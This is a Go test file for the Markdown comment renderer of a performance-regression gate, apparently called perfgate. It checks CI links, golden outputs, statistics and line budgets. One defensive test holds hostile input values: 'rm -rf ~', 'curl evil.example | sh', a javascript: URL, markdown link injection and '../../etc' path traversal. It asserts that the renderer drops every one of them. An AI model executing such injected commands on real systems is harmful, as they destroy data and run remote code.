package render

import (
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/perfgate/perfgate/engine/internal/report"
)

// ciLinks are the links the Action passes for a pull request's run.
func ciLinks() Links {
	return Links{
		ServerURL: "https://github.com", Repository: "acme/search", RunID: "12345678901", RunAttempt: "2",
		ArtifactID: "987654321", ArtifactName: "perfgate-results",
		BaseSHA: strings.Repeat("a", 40), HeadSHA: strings.Repeat("b", 40), AcceptLabel: "perfgate:accept",
	}
}

// prRegression is the real regression run as a pull request sees it,
// with runtime noise the first screen leaves out added: 0.03 µs of a
// request's 380.
func prRegression(t *testing.T) *report.Report {
	rep := realReport(t, "regression")
	rep.Functions = append(rep.Functions, report.Function{Profile: "mutex", Name: "runtime.unlock", Kind: "flat", Unit: "µs/req", Base: 0.031, Delta: -0.028, Head: 0.003, Status: "changed"})
	return rep
}

func TestMarkdownRegressionWithHintAndLinks(t *testing.T) {
	rep := prRegression(t)
	got := MarkdownFor(rep, ReproductionOf(rep), ciLinks())
	golden(t, "regression-links.md", got)
	for _, want := range []string{
		"[workflow run](https://github.com/acme/search/actions/runs/12345678901/attempts/2)",
		"[results artifact](https://github.com/acme/search/actions/runs/12345678901/artifacts/987654321)",
		"(https://github.com/acme/search/compare/" + strings.Repeat("a", 40) + "..." + strings.Repeat("b", 40) + ")",
		// handleSearch's row was charged through a runtime function: its
		// link goes to the line that called it, not the function's.
		"(https://github.com/acme/search/blob/" + strings.Repeat("b", 40) + "/internal/httpapi/search.go#L30)",
		"gh run download 12345678901 -R acme/search -n perfgate-results -D perfgate-results",
		"-diff_base perfgate-results/base.allocs.pb.gz perfgate-results/head.allocs.pb.gz",
		"add the label `perfgate:accept` (write access, after the last push)",
		"ℹ️ About the service: 1 note", "Lock contention cannot show in this gate",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("comment lacks %q", want)
		}
	}
	if strings.Contains(got, "runtime.unlock") {
		t.Error("runtime.unlock's −0.028 µs (under 1% of a request's CPU) must be left out")
	}
	if strings.Contains(got, "blob/"+strings.Repeat("b", 40)+"/fmt") {
		t.Error("a standard library function must not link into the repository")
	}
	requireSafe(t, got, []string{"https://github.com/acme/search/"})
}

func TestMarkdownAcceptedByLabel(t *testing.T) {
	links := ciLinks()
	links.AcceptedBy = "octocat"
	rep := prRegression(t)
	got := MarkdownFor(rep, ReproductionOf(rep), links)
	golden(t, "accepted.md", got)
	for _, want := range []string{"### ✅ perfgate: regression accepted", "Accepted with the label `perfgate:accept`, added by `octocat`", "Remove the label"} {
		if !strings.Contains(got, want) {
			t.Errorf("comment lacks %q", want)
		}
	}
	links.AcceptedBy = ""
	if got := MarkdownFor(rep, ReproductionOf(rep), links); strings.Contains(got, "regression accepted") {
		t.Error("without the login that added the label, a regression is not accepted")
	}
}

func TestMarkdownImprovement(t *testing.T) {
	rep := realReport(t, "improvement")
	if rep.Verdict != report.Improvement {
		t.Fatalf("the improvement run's verdict is %s; record it again (scripts/goldens.sh improvement)", rep.Verdict)
	}
	got := Markdown(rep)
	golden(t, "improvement.md", got)
	if !strings.Contains(got, "**Allocations per request -") || !strings.Contains(got, "Nothing regressed.") {
		t.Errorf("headline:\n%s", got)
	}
}

func TestMarkdownPass(t *testing.T) {
	rep := realReport(t, "pass")
	if rep.Verdict != report.Pass {
		t.Fatalf("the A/A run's verdict is %s; record it again (scripts/goldens.sh pass)", rep.Verdict)
	}
	got := Markdown(rep)
	golden(t, "pass.md", got)
	if !strings.Contains(got, "would have caught a change of CPU per request ≥ ") {
		t.Errorf("pass says what it could have caught:\n%s", got)
	}
}

func TestMarkdownInconclusive(t *testing.T) {
	rep := realReport(t, "inconclusive")
	got := Markdown(rep)
	golden(t, "inconclusive.md", got)
	if !strings.Contains(got, "**Not decided**: ") || !strings.Contains(got, "could still be above or below") {
		t.Errorf("headline:\n%s", got)
	}
}

func TestInconclusiveSaysHowManyRoundsDecide(t *testing.T) {
	m := report.Metric{Name: "cpu", Delta: 0.05, CI: [2]float64{-0.01, 0.12}, Threshold: 0.1, Pairs: 10, Level: 0.01, Family: 3}
	// The upper bound is 0.07 above the estimate, 0.05 below the
	// threshold: (0.07/0.05)² = 1.96 times the rounds.
	if n, ok := roundsToDecide(m); !ok || n != 20 {
		t.Errorf("roundsToDecide = %d, %v; want 20", n, ok)
	}
	m.Delta, m.CI = 0.0999, [2]float64{0.05, 0.15}
	if _, ok := roundsToDecide(m); ok {
		t.Error("an estimate at the threshold is not decided by more rounds")
	}
	// Over the threshold, a regression needs the lower bound above δ0
	// (half the threshold), not above the threshold: 0.10 below the
	// estimate, 0.07 above δ0, (0.10/0.07)² = 2.04 times the rounds.
	m.Delta, m.CI = 0.12, [2]float64{0.02, 0.22}
	if n, ok := roundsToDecide(m); !ok || n != 21 {
		t.Errorf("over the threshold: roundsToDecide = %d, %v; want 21", n, ok)
	}
	m = report.Metric{Name: "cpu", Delta: 0, CI: [2]float64{-0.01, 0.01}, Threshold: 0.1, Pairs: 4, Level: 0.01, Family: 3}
	if n, _ := roundsToDecide(m); n != 9 {
		t.Errorf("with 4 rounds the signed-rank test cannot reach 0.01/3: want its minimum, 9 rounds, got %d", n)
	}
}

// TestHostileLinksAreNeverBuilt: the links and the download command take
// only values that match their patterns; a value that does not is left
// out with whatever needs it.
func TestHostileLinksAreNeverBuilt(t *testing.T) {
	rep := prRegression(t)
	rep.Build.Head.Module = "example.com/svc"
	rep.Build.Head.ModuleDir = "../../etc"
	hostile := Links{
		ServerURL: "javascript:alert(1)//", Repository: "acme/search) [x](https://evil.example", RunID: "1; rm -rf ~",
		RunAttempt: "-1", ArtifactID: "0x10", ArtifactName: "results; curl evil.example | sh",
		BaseSHA: "main", HeadSHA: strings.Repeat("B", 40), AcceptLabel: "perfgate:accept\n### pwned", AcceptedBy: "@everyone",
	}
	got := MarkdownFor(rep, Reproduction{Config: "perfgate.yml"}, hostile)
	for _, bad := range []string{"javascript", "evil.example", "rm -rf", "curl", "/compare/", "/blob/", "gh run download", "pwned", "everyone", "regression accepted", "](http"} {
		if strings.Contains(got, bad) {
			t.Errorf("comment shows %q from a hostile value", bad)
		}
	}
	// One bad part leaves the rest: a good server and repository still
	// link the run.
	partial := ciLinks()
	partial.ArtifactID = "12a"
	got = MarkdownFor(rep, Reproduction{Config: "perfgate.yml"}, partial)
	if !strings.Contains(got, "[workflow run](") || strings.Contains(got, "[results artifact](") {
		t.Errorf("a bad artifact ID must drop only the artifact link:\n%s", got)
	}
	if strings.Contains(got, "/blob/") {
		t.Error("a module directory that climbs out of the repository must not make a source link")
	}
}

// firstScreenBudget is the most rendered lines a reviewer reads before
// the first folded section: 25, the 24 it was before issue 22 put a
// request line that regressed on its own on the first screen, plus that
// line.
const firstScreenBudget = 25

// TestFirstScreenFitsTheBudget measures every golden comment: the lines
// GitHub renders before the first <details>, a line longer than a
// comment's width (about 110 characters of text) counted as the lines it
// wraps to, table separators and blank lines as none.
func TestFirstScreenFitsTheBudget(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "*.md"))
	if err != nil || len(files) < 8 {
		t.Fatalf("golden comments: %v, %v", files, err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if n := firstScreenLines(string(data)); n > firstScreenBudget {
			t.Errorf("%s: the first screen is %d rendered lines, above %d", file, n, firstScreenBudget)
		} else {
			t.Logf("%s: %d rendered lines on the first screen", file, n)
		}
	}
}

var (
	markupTag   = regexp.MustCompile(`<[^>]*>`)
	linkTarget  = regexp.MustCompile(`\]\([^)]*\)`)
	entity      = regexp.MustCompile(`&[#A-Za-z0-9]+;`)
	tableRule   = regexp.MustCompile(`^\|(?:-+:?|:?-+:?\|)+`)
	commentLine = regexp.MustCompile(`^<!--.*-->$`)
)

// firstScreenLines counts the rendered lines before the first <details>.
func firstScreenLines(md string) int {
	const width = 110
	before, _, _ := strings.Cut(md, "<details>")
	lines := 0
	for _, line := range strings.Split(before, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || tableRule.MatchString(line) || commentLine.MatchString(line) {
			continue
		}
		text := entity.ReplaceAllString(linkTarget.ReplaceAllString(markupTag.ReplaceAllString(line, ""), "]"), "x")
		text = strings.ReplaceAll(text, `\`, "")
		lines += max(1, int(math.Ceil(float64(utf8.RuneCountInString(text))/width)))
	}
	return lines
}

func TestFirstScreenLinesCountsWrappedText(t *testing.T) {
	md := "<!-- perfgate:report -->\n### a\n\n" + strings.Repeat("word ", 50) + "\n\n| a | b |\n|---|--:|\n| [x](https://very.long/url/that/is/not/shown) | &lt;b&gt; |\n<details>\nhidden\n"
	// heading 1, a 250-character paragraph 3, two table rows.
	if n := firstScreenLines(md); n != 6 {
		t.Errorf("firstScreenLines = %d, want 6", n)
	}
}
